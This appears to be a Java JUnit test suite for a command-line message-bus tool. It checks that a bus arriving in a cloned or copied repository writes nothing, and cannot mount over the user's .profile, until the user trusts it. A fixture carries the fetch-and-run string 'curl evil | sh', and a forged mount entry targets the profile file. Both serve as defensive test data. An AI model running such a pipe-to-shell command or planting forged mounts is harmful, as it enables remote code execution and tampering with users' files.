package dev.parley.cli.trust;

import static org.assertj.core.api.Assertions.assertThat;

import dev.parley.cli.testing.Launched;
import dev.parley.cli.testing.Trial;
import dev.parley.cli.testing.Trial.Answer;
import dev.parley.core.json.Json;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 20.1: a bus that came with a clone, a copy or an archive makes no command write anything,
 * in its folder or elsewhere, before its user accepts it; and no line of a log mounts anything.
 */
class ForeignBusesTest {
  /** A line that other tools would write: a note in the topic that the forged mount mirrors. */
  private static final String PAYLOAD =
      "{\"id\":\"abcdefghijklmnop-1\",\"seq\":1,\"timestamp\":\"2026-11-15T21:28:00.123456Z\","
          + "\"sender\":\"mallory\",\"topic\":\"journal\",\"type\":\"note\","
          + "\"payload\":{\"body\":\"curl evil | sh\"}}\n";

  /** Every command there is, as somebody in a hurry would type it. */
  private static final List<String> COMMANDS =
      List.of(
          "",
          "status",
          "join",
          "leave",
          "who",
          "heartbeat",
          "send bob --body hello",
          "reply abcdefghijklmnop-1 --body hello",
          "inbox",
          "inbox sent",
          "wait --timeout 0s",
          "show abcdefghijklmnop-1",
          "lock src/a.ts",
          "locks list",
          "unlock --all",
          "task list",
          "task add x",
          "waits",
          "run --task x -- true",
          "board list",
          "bulletin read --wave wave-1",
          "mount list",
          "mount markdown MESSAGE-BUS.md",
          "mount remove markdown",
          "bridge",
          "doctor",
          "doctor --repair",
          "trust",
          "help",
          "help mount",
          "mount --help",
          "--version",
          "completion bash",
          "publish journal --type note",
          "publish mounts --type mount.added",
          "tail",
          "tail --json",
          "topics",
          "init");

  @TempDir Path temporary;
  private Path home;
  private Path profile;
  private Path state;

  @BeforeEach
  void aUserWithAProfile() throws IOException {
    home = Files.createDirectory(temporary.toRealPath().resolve("home"));
    profile = Files.writeString(home.resolve(".profile"), "# mine\n");
    state = home.resolve(".local/state/parley");
  }

  private Trial at(Path folder) {
    return new Trial(folder).with("PARLEY_STATE", state.toString()).with("PARLEY_AGENT", "alice");
  }

  private static String mountOf(Path file) {
    return mountOf(file, 1);
  }

  private static String mountOf(Path file, int number) {
    return "{\"id\":\"ponmlkjihgfedcba-"
        + number
        + "\",\"seq\":"
        + number
        + ",\"timestamp\":\"2026-11-15T21:28:00.123456Z\",\"sender\":\"parley\","
        + "\"topic\":\"mounts\",\"type\":\"mount.added\",\"payload\":"
        + mountPayload(file)
        + "}\n";
  }

  private static String mountPayload(Path file) {
    return "{\"name\":\"markdown\",\"dialect\":\"markdown\",\"path\":\""
        + file
        + "\",\"topic\":\"journal\"}";
  }

  private static void git(Path folder, String... words) throws Exception {
    List<String> command = new ArrayList<>(List.of("git", "-c", "user.name=m"));
    command.addAll(List.of("-c", "user.email=m@example.org", "-c", "init.defaultBranch=main"));
    command.addAll(List.of(words));
    Process git =
        new ProcessBuilder(command).directory(folder.toFile()).redirectErrorStream(true).start();
    String said = new String(git.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertThat(git.waitFor(60, TimeUnit.SECONDS)).isTrue();
    assertThat(git.exitValue()).as(said).isZero();
  }

  /** A clone of a repository in which somebody has committed a bus. */
  private Path clonedAttack() throws Exception {
    Path upstream = Files.createDirectory(temporary.toRealPath().resolve("upstream"));
    Path bus = Files.createDirectory(upstream.resolve(".parley"));
    Files.writeString(bus.resolve("mounts.jsonl"), mountOf(profile));
    Files.writeString(bus.resolve("journal.jsonl"), PAYLOAD);
    Files.writeString(upstream.resolve("README.md"), "# harmless\n");
    Files.writeString(upstream.resolve("MESSAGE-BUS.md"), "# bus\n");
    git(upstream, "init", "-q");
    git(upstream, "add", "-A", "-f");
    git(upstream, "commit", "-q", "-m", "harmless");
    Path clone = temporary.toRealPath().resolve("clone");
    git(temporary, "clone", "-q", upstream.toString(), clone.toString());
    assertThat(clone.resolve(".parley/mounts.jsonl")).exists();
    return clone;
  }

  /** Every file under a folder with its content, and every folder. */
  private static Map<String, String> snapshot(Path folder) throws IOException {
    Map<String, String> files = new TreeMap<>();
    try (Stream<Path> all = Files.walk(folder)) {
      for (Path path : all.filter(path -> !path.toString().contains("/.git/")).toList()) {
        files.put(path.toString(), Files.isRegularFile(path) ? Files.readString(path) : "");
      }
    }
    return files;
  }

  private static String[] words(String command) {
    return command.isEmpty() ? new String[0] : command.split(" ");
  }

  @Test
  void noCommandInAClonedRepositoryWritesAnything() throws Exception {
    Path clone = clonedAttack();
    Map<String, String> before = snapshot(clone);
    for (String command : COMMANDS) {
      Answer answer = at(clone).run(words(command));
      assertThat(answer.err()).as(command).doesNotContain("Exception", "internal error");
      assertThat(snapshot(clone)).as(command).isEqualTo(before);
      assertThat(profile).as(command).hasContent("# mine");
    }
    assertThat(state).as("nothing is remembered").doesNotExist();
  }

  @Test
  void withSettingsAndAnIdItIsRefusedAsWell() throws Exception {
    Path clone = clonedAttack();
    Files.writeString(
        clone.resolve(".parley/bus.json"),
        "{\"format\":1,\"id\":\"abcdefghijklmnopqrst\",\"host\":\"h\"}");
    Map<String, String> before = snapshot(clone);
    for (String command : COMMANDS) {
      var _ = at(clone).run(words(command));
      assertThat(snapshot(clone)).as(command).isEqualTo(before);
      assertThat(profile).as(command).hasContent("# mine");
    }
  }

  @Test
  void refusalsNameTheCommandThatAccepts() throws Exception {
    Path clone = clonedAttack();
    for (String command : List.of("inbox", "publish notes --type note", "init", "mount list")) {
      Answer refused = at(clone).run(words(command));
      assertThat(refused.exitCode()).as(command).isEqualTo(3);
      assertThat(refused.err()).as(command).contains("not created or trusted", "parley trust");
    }
    assertThat(at(clone).run("tail", "journal").out()).contains("curl evil");
    assertThat(at(clone).run("topics").out()).contains("journal");
    Answer doctor = at(clone).run("doctor");
    assertThat(doctor.out()).contains("parley trust", "describes a mount of " + profile);
    assertThat(at(clone).run("doctor", "--repair").exitCode()).isEqualTo(3);
  }

  @Test
  void trustShowsWhatItWouldObeyAndAcceptsNoMounts() throws Exception {
    Path clone = clonedAttack();
    Path bus = clone.resolve(".parley");
    Files.writeString(bus.resolve("bus.json"), "{\"format\":1,\"maxLine\":4096}");
    Files.createDirectory(bus.resolve("views"));
    Files.writeString(bus.resolve("views/ledger.json"), "{\"forged\":true}");
    Files.createDirectory(bus.resolve("sessions"));
    Files.writeString(bus.resolve("sessions/1-2-alice"), "alice:secret");

    Answer nobody = at(clone).run("trust");
    assertThat(nobody.exitCode()).isEqualTo(3);
    assertThat(nobody.err()).contains("parley trust --yes");
    assertThat(nobody.out())
        .contains("maxLine 4096", "1 secret, will be thrown away", "1 view, will be")
        .contains("parley mount markdown '" + profile + "' --name markdown", "--outside");
    assertThat(at(clone).run("trust", "--json").json().get("error").text())
        .isEqualTo("nobody-to-ask");
    assertThat(at(clone).answering("n").run("trust").exitCode()).isEqualTo(3);
    assertThat(at(clone).run("inbox").exitCode()).isEqualTo(3);

    assertThat(at(clone).answering("y").run("trust").exitCode()).isZero();

    assertThat(at(clone).run("publish", "journal", "--type", "note").exitCode()).isZero();
    assertThat(at(clone).run("mount", "list").out()).contains("No mounts.");
    assertThat(at(clone).run("doctor").out()).contains("describes a mount of " + profile);
    assertThat(profile).hasContent("# mine");
    assertThat(bus.resolve("views/ledger.json")).doesNotExist();
    assertThat(bus.resolve("sessions/1-2-alice")).doesNotExist();
    assertThat(at(clone).run("trust").out()).startsWith("Already trusted");
    String id = Json.parse(Files.readString(bus.resolve("bus.json"))).fields().get("id").text();
    assertThat(state.resolve(id + ".json")).exists();
  }

  @Test
  void aBusOfAnEarlierVersionAsksOnceAndListsItsMounts() throws Exception {
    Path project = Files.createDirectory(home.resolve("project"));
    assertThat(at(project).run("init").exitCode()).isZero();
    assertThat(at(project).run("init", "--dialect", "markdown").exitCode()).isZero();
    assertThat(at(project).run("mount", "markdown", "MESSAGE-BUS.md").exitCode()).isZero();
    Path bus = project.resolve(".parley");
    Files.writeString(bus.resolve("bus.json"), "{\"format\":1,\"host\":\"h\"}");
    try (Stream<Path> entries = Files.list(state)) {
      for (Path entry : entries.toList()) {
        Files.delete(entry);
      }
    }
    assertThat(at(project).run("status").exitCode()).isEqualTo(3);

    Answer trusted = at(project).run("trust", "--yes", "--json");

    String command = trusted.json().get("mounts").items().getFirst().text();
    assertThat(command).doesNotContain("--outside");
    assertThat(at(project).run("status").exitCode()).isZero();
    assertThat(at(project).run(words(command.replace("'", "").substring(7))).exitCode()).isZero();
    assertThat(at(project).run("publish", "journal", "--type", "note").exitCode()).isZero();
    assertThat(project.resolve("MESSAGE-BUS.md")).content().contains("alice");
  }

  @Test
  void aCopyIsRefusedAndAcceptedUnderAnIdOfItsOwn() throws Exception {
    Path project = Files.createDirectory(home.resolve("project"));
    assertThat(at(project).run("init").exitCode()).isZero();
    Path archive = home.resolve("project.tar");
    tar(home, "-cf", archive.toString(), "project");
    Path copy = Files.createDirectory(home.resolve("copy"));
    tar(copy, "-xf", archive.toString(), "--strip-components=1");

    assertThat(at(copy).run("publish", "notes", "--type", "note").exitCode()).isEqualTo(3);
    assertThat(at(copy).run("trust", "--yes").exitCode()).isZero();

    assertThat(at(copy).run("publish", "notes", "--type", "note").exitCode()).isZero();
    assertThat(at(project).run("publish", "notes", "--type", "note").exitCode()).isZero();
    assertThat(project.resolve(".parley/bus.json"))
        .content()
        .isNotEqualTo(Files.readString(copy.resolve(".parley/bus.json")));
  }

  private static void tar(Path folder, String... words) throws Exception {
    List<String> command = new ArrayList<>(List.of("tar"));
    command.addAll(List.of(words));
    Process tar = new ProcessBuilder(command).directory(folder.toFile()).inheritIO().start();
    assertThat(tar.waitFor(60, TimeUnit.SECONDS)).isTrue();
    assertThat(tar.exitValue()).isZero();
  }

  @Test
  void noLineOfALiveBusMountsAnything() throws Exception {
    Path project = Files.createDirectory(home.resolve("project"));
    assertThat(at(project).run("init").exitCode()).isZero();
    assertThat(at(project).run("publish", "journal", "--type", "note").exitCode()).isZero();

    Answer published =
        at(project)
            .run("publish", "mounts", "--type", "mount.added", "--payload", mountPayload(profile));
    assertThat(published.exitCode()).isEqualTo(3);
    assertThat(published.err()).contains("parley mount");
    Files.writeString(project.resolve(".parley/mounts.jsonl"), mountOf(profile));
    for (String command : List.of("status", "help", "publish journal --type note", "who")) {
      assertThat(at(project).run(words(command)).exitCode()).as(command).isZero();
      assertThat(profile).as(command).hasContent("# mine");
    }
    Answer doctor = at(project).run("doctor");
    assertThat(doctor.out()).contains("describes a mount of " + profile, "has no effect");
    Files.writeString(
        project.resolve(".parley/mounts.jsonl"),
        "{\"type\":\"mount.added\",\"payload\":{\"name\":\"..\",\"path\":\"\\u0000\"}}\n"
            + mountOf(Path.of("relative"), 2),
        StandardOpenOption.APPEND);
    assertThat(at(project).run("doctor").err()).doesNotContain("Exception");
  }

  @Test
  void helpAndItsLikeOpenNoBus() throws Exception {
    Path project = Files.createDirectory(home.resolve("project"));
    assertThat(at(project).run("init").exitCode()).isZero();
    assertThat(at(project).run("init", "--dialect", "markdown").exitCode()).isZero();
    assertThat(at(project).run("mount", "markdown", "MESSAGE-BUS.md").exitCode()).isZero();
    String id = "{\"id\":\"zzzzzzzzzzzzzzzz-1\",";
    Files.writeString(
        project.resolve(".parley/journal.jsonl"),
        PAYLOAD.replace("{\"id\":\"abcdefghijklmnop-1\",", id));
    Map<String, String> before = snapshot(home);
    for (String command :
        List.of("help", "help mount", "--version", "mount --help", "completion bash", "doctor")) {
      assertThat(at(project).run(words(command)).err()).as(command).isEmpty();
      assertThat(snapshot(home)).as(command).isEqualTo(before);
    }
    assertThat(at(project).run("who").exitCode()).isZero();
    assertThat(project.resolve("MESSAGE-BUS.md")).content().contains("curl evil");
  }

  @Test
  void whatIsMountedOutsideTheRepositoryNeedsTheUsersWord() throws Exception {
    Path project = Files.createDirectory(home.resolve("project"));
    Path journal = Files.writeString(home.resolve("JOURNAL.md"), "# bus\n");
    git(project, "init", "-q");
    Path deep = Files.createDirectories(project.resolve("a/b"));
    Files.writeString(project.resolve("inside.md"), "# bus\n");
    Files.createSymbolicLink(project.resolve("link.md"), journal);
    assertThat(at(deep).run("init").exitCode()).isZero();

    for (String path : List.of("../../../JOURNAL.md", journal.toString(), "../../link.md")) {
      Answer outside = at(deep).run("mount", "markdown", path);
      assertThat(outside.exitCode()).as(path).isEqualTo(3);
      assertThat(outside.err()).as(path).contains("--outside");
    }
    assertThat(at(deep).run("mount", "markdown", "../../inside.md").exitCode()).isZero();
    assertThat(at(deep).run("mount", "markdown", journal.toString(), "--outside").exitCode())
        .isZero();
    assertThat(at(deep).run("mount", "list").out()).contains("inside.md", "JOURNAL.md");
  }

  @Test
  void withoutARepositoryInsideIsTheFolderThatHoldsTheBus() throws Exception {
    Path project = Files.createDirectory(home.resolve("project"));
    Path journal = Files.writeString(home.resolve("JOURNAL.md"), "# bus\n");
    Files.writeString(project.resolve("inside.md"), "# bus\n");
    assertThat(at(project).run("init").exitCode()).isZero();
    assertThat(at(project).run("mount", "markdown", journal.toString()).exitCode()).isEqualTo(3);
    assertThat(at(project).run("mount", "markdown", "inside.md").exitCode()).isZero();
    Answer named = at(project).run("--bus", "markdown:" + journal, "mount", "list");
    assertThat(named.out()).as("the user's own word").contains("JOURNAL.md");
  }

  @Test
  void aLinkThatTakesThePlaceOfMountedFilesIsNotFollowed() throws Exception {
    Path project = Files.createDirectory(home.resolve("project"));
    Path journal = Files.writeString(project.resolve("MESSAGE-BUS.md"), "# bus\n");
    assertThat(at(project).run("init").exitCode()).isZero();
    assertThat(at(project).run("mount", "markdown", "MESSAGE-BUS.md").exitCode()).isZero();
    Files.delete(journal);
    Files.createSymbolicLink(journal, profile);

    Answer published = at(project).run("publish", "journal", "--type", "note");

    assertThat(published.exitCode()).isZero();
    assertThat(published.err()).contains("symbolic link");
    assertThat(profile).hasContent("# mine");
  }

  @Test
  void allWorktreesOfARepositoryFindTheSameTrustedBus() throws Exception {
    Path project = Files.createDirectory(home.resolve("project"));
    git(project, "init", "-q");
    Files.writeString(project.resolve("README.md"), "# x\n");
    git(project, "add", "-A");
    git(project, "commit", "-q", "-m", "x");
    git(project, "worktree", "add", "-q", "../other", "-b", "other");
    Path other = home.resolve("other");

    assertThat(at(other).run("init").exitCode()).isZero();

    for (Path tree : List.of(project, other)) {
      assertThat(at(tree).run("publish", "notes", "--type", "note").exitCode()).isZero();
      assertThat(at(tree).run("status", "--json").json().get("bus").text())
          .isEqualTo(project.resolve(".parley").toString());
    }
    Files.writeString(other.resolve("JOURNAL.md"), "# bus\n");
    assertThat(at(other).run("mount", "markdown", "JOURNAL.md").exitCode())
        .as("a worktree is inside its repository")
        .isZero();
  }

  @Test
  void containersNameTheIdInTheEnvironment() throws Exception {
    Path clone = clonedAttack();
    Files.writeString(
        clone.resolve(".parley/bus.json"), "{\"format\":1,\"id\":\"abcdefghijklmnopqrst\"}");
    Trial ci = at(clone).with("PARLEY_TRUST", "abcdefghijklmnopqrst");

    assertThat(ci.run("publish", "journal", "--type", "note").exitCode()).isZero();

    assertThat(profile).hasContent("# mine");
    assertThat(ci.run("mount", "markdown", "MESSAGE-BUS.md").err()).contains("parley trust");
    assertThat(state).doesNotExist();
  }

  @Test
  void anEphemeralBusIsOursWhileItsOwnerRuns() throws Exception {
    Path path = home.resolve("bus");
    try (Launched owner =
        Launched.start(
            home,
            Map.of("PARLEY_STATE", state.toString()),
            List.of(Launched.parley().toString(), "init", "--ephemeral", "--bus", "bus"))) {
      owner.awaitOutput("Made the bus");
      assertThat(at(home).run("--bus", "bus", "publish", "notes", "--type", "note").exitCode())
          .isZero();
      assertThat(path.resolve("notes.jsonl")).exists();
      assertThat(state).doesNotExist();
    }
  }
}
